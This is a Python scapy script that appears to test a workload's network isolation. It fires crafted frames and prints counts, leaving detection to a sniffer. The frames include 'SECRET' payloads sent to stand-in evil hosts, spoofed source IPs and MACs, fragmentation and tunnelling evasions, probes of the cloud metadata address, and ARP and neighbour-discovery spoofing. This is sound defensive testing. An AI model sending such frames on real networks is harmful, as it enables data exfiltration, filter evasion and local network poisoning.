#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Frames that a hostile root crafts, put on the wire of the workload below its own stack.

usage: packets.py IFACE OPENAI4 OPENAI6 EVIL4 EVIL6

Prints one line a class, "sent NAME COUNT"; what must not arrive is the sniffer's to say. Debian's
own python3, since scapy is one of its packages.
"""
import logging
import sys

logging.getLogger("scapy").setLevel(logging.ERROR)
from scapy.all import (  # noqa: E402
    AH, ARP, ESP, GRE, ICMP, IP, SCTP, TCP, UDP, Dot1AD, Dot1Q, Ether, IPOption_LSRR, IPOption_NOP,
    IPOption_Timestamp, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop,
    IPv6ExtHdrRouting, Raw, conf, fragment, fragment6, get_if_addr, get_if_addr6, get_if_hwaddr,
    getmacbyip, in6_getifaddr, ICMPv6EchoRequest, ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA,
    ICMPv6NDOptSrcLLAddr, ICMPv6NDOptDstLLAddr, SCTPChunkInit)

IFACE, OPENAI4, OPENAI6, EVIL4, EVIL6 = sys.argv[1:6]
conf.verb = 0
conf.iface = IFACE
mine4 = get_if_addr(IFACE)
mine6 = next((a for a, scope, i in in6_getifaddr() if i == IFACE and scope == 0), None)
gate4 = next(r[2] for r in conf.route.routes if r[3] == IFACE and r[2] != "0.0.0.0")
mac = get_if_hwaddr(IFACE)
gate_mac = getmacbyip(gate4) or "ff:ff:ff:ff:ff:ff"
sock = conf.L2socket(iface=IFACE)
E = Ether(src=mac, dst=gate_mac)
SECRET = Raw(b"SECRET" * 8)
SYN = TCP(sport=40000, dport=443, flags="S")
ok4, ok6 = IP(src=mine4, dst=OPENAI4), IPv6(src=mine6, dst=OPENAI6)
evil4, evil6 = IP(src=mine4, dst=EVIL4), IPv6(src=mine6, dst=EVIL6)


def classes():
    yield "udp-443", [E / ok4 / UDP(dport=443) / SECRET, E / ok6 / UDP(dport=443) / SECRET]
    yield "ping", [E / evil4 / ICMP() / SECRET, E / evil6 / ICMPv6EchoRequest(data=b"SECRET")]
    yield "icmp-other", [E / evil4 / ICMP(type=t) / SECRET for t in (0, 3, 5, 11, 13, 17)]
    yield "forged-source", [
        E / IP(src=s, dst=OPENAI4) / SYN for s in (
            "198.51.100.2", "203.0.113.99", "192.0.0.3", "192.0.0.1", "127.0.0.1", "0.0.0.0",
            "255.255.255.255", "224.0.0.1", OPENAI4)] + [
        E / IPv6(src=s, dst=OPENAI6) / SYN for s in (
            "2001:db8:1::2", "fd7e:a7c3:1b5d::3", "::1", "::", "ff02::1", "::ffff:192.0.0.2",
            "fe80::1234", OPENAI6)]
    yield "forged-mac", [Ether(src="02:00:00:00:be:ef", dst=gate_mac) / evil4 / SYN]
    yield "fragments", (
        [E / f for f in fragment(evil4 / UDP(dport=53) / Raw(b"S" * 3000), 1000)] +
        [E / f for f in fragment(ok4 / SYN / Raw(b"S" * 60), 24)] +
        [E / f for f in fragment6(evil6 / IPv6ExtHdrFragment(id=7) / UDP(dport=53) / Raw(b"S" * 3000), 1280)] +
        [E / IP(src=mine4, dst=OPENAI4, flags="MF", frag=0) / SYN,
         E / IP(src=mine4, dst=OPENAI4, frag=1, proto=6) / SECRET,
         E / IP(src=mine4, dst=OPENAI4, frag=8191, proto=17) / SECRET,
         E / ok6 / IPv6ExtHdrFragment(offset=0, m=0) / SYN])
    yield "ip-options", [
        E / IP(src=mine4, dst=OPENAI4, options=o) / SYN for o in (
            [IPOption_NOP()] * 4, [IPOption_LSRR(routers=[EVIL4])], [IPOption_Timestamp()])]
    yield "ext-headers", [
        E / ok6 / IPv6ExtHdrHopByHop() / SYN, E / ok6 / IPv6ExtHdrDestOpt() / SYN,
        E / ok6 / IPv6ExtHdrRouting(addresses=[EVIL6]) / SYN,
        E / ok6 / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / IPv6ExtHdrDestOpt() / SYN]
    yield "protocols", [
        E / ok4 / SCTP(sport=1, dport=443) / SCTPChunkInit(), E / ok6 / SCTP(sport=1, dport=443) / SCTPChunkInit(),
        E / ok4 / GRE() / evil4 / SYN, E / ok4 / evil4 / SYN, E / IP(src=mine4, dst=OPENAI4, proto=41) / evil6 / SYN,
        E / ok6 / evil6 / SYN, E / ok6 / evil4 / SYN, E / ok4 / ESP(spi=1, seq=1, data=b"SECRET"), E / ok4 / AH() / SYN,
        E / IP(src=mine4, dst=OPENAI4, proto=253) / SECRET, E / IP(src=mine4, dst=OPENAI4, proto=2) / SECRET,
        E / IP(src=mine4, dst=OPENAI4, proto=136) / SECRET, E / ok4 / UDP(dport=4789) / SECRET,
        E / ok4 / UDP(dport=3544) / SECRET]
    yield "vlan", [E / Dot1Q(vlan=1) / ok4 / SYN, E / Dot1AD(vlan=1) / Dot1Q(vlan=2) / ok4 / SYN,
                   E / Dot1Q(vlan=0) / evil6 / SYN]
    yield "stray-tcp", [E / evil4 / TCP(sport=5, dport=443, flags=f) / SECRET
                        for f in ("A", "PA", "FA", "R", "SA", "", "FPU", "SF", "SR")] + [
                       E / evil6 / TCP(sport=5, dport=443, flags="PA") / SECRET]
    yield "lengths", [
        E / Raw(b"\x45"), E / Raw(bytes(ok4 / SYN)[:24]), E / Raw(bytes(ok6 / SYN)[:30]),
        E / IP(src=mine4, dst=OPENAI4, len=2000) / SYN, E / IP(src=mine4, dst=OPENAI4, len=20) / SYN,
        E / IP(src=mine4, dst=OPENAI4, ihl=4) / SYN, E / IP(src=mine4, dst=OPENAI4, ihl=15) / SYN,
        E / IPv6(src=mine6, dst=OPENAI6, plen=0) / SYN, E / IPv6(src=mine6, dst=OPENAI6, plen=9000) / SYN,
        E / IP(version=6, src=mine4, dst=OPENAI4) / SYN, E / ok4 / TCP(dport=443, flags="S", dataofs=3),
        E / ok4 / TCP(dport=443, flags="S", dataofs=15), E / ok4 / UDP(dport=53, len=3) / SECRET]
    yield "destinations", [E / IP(src=mine4, dst=d) / UDP(dport=5353) / SECRET for d in (
        "224.0.0.251", "255.255.255.255", "0.0.0.0", "127.0.0.1", "240.0.0.1", "192.0.0.1", "198.51.100.2",
        "10.0.0.1", "169.254.169.254")] + [E / IPv6(src=mine6, dst=d) / UDP(dport=5353) / SECRET for d in (
            "ff02::fb", "::1", "::", "fe80::1", "fd00:ec2::254", "::ffff:169.254.169.254", "::169.254.169.254",
            "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "2001:db8:1::2")]
    yield "ethertypes", [Ether(src=mac, dst=gate_mac, type=t) / SECRET for t in (
        0x0000, 0x0500, 0x8847, 0x8863, 0x8864, 0x88cc, 0x88a8, 0x22f0, 0xffff)]
    yield "neighbours", [
        Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / ARP(psrc=mine4, pdst=EVIL4, hwsrc=mac),
        Ether(src=mac, dst=gate_mac) / ARP(op=2, psrc="203.0.113.1", pdst=gate4, hwsrc=mac),
        E / IPv6(src=mine6, dst="ff02::1") / ICMPv6ND_NA(tgt=OPENAI6) / ICMPv6NDOptDstLLAddr(lladdr=mac),
        E / IPv6(src=mine6, dst="ff02::1:ff00:1") / ICMPv6ND_NS(tgt=EVIL6) / ICMPv6NDOptSrcLLAddr(lladdr=mac),
        E / IPv6(src="fe80::1", dst="ff02::1") / ICMPv6ND_RA()]


for name, frames in classes():
    sent = 0
    for frame in frames:
        try:
            sock.send(frame)
            sent += 1
        except OSError:
            pass
    print("sent", name, sent)
